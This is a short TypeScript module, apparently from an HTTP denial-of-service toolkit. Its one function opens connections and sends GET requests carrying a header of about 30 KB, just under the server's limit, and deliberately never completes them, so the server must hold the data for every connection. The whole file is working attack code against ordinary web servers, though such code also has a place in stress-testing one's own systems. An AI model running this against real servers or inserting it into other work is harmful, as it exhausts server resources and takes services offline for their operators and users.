import { type AttackOptions, onEachConnection, write } from "./attack.ts";

/** Bytes just below the limit of the server, so that it has to keep them. */
const size = 30 * 1024;

/** Sends heads that are nearly as large as the server allows, and doesn't end them. */
export function largeHeads(options: AttackOptions): Promise<void> {
  const { path = "/" } = options;
  return onEachConnection(options, async (socket) => {
    await write(socket, `GET ${path} HTTP/1.1\r\nHost: x\r\nX: ${"x".repeat(size)}`);
  });
}
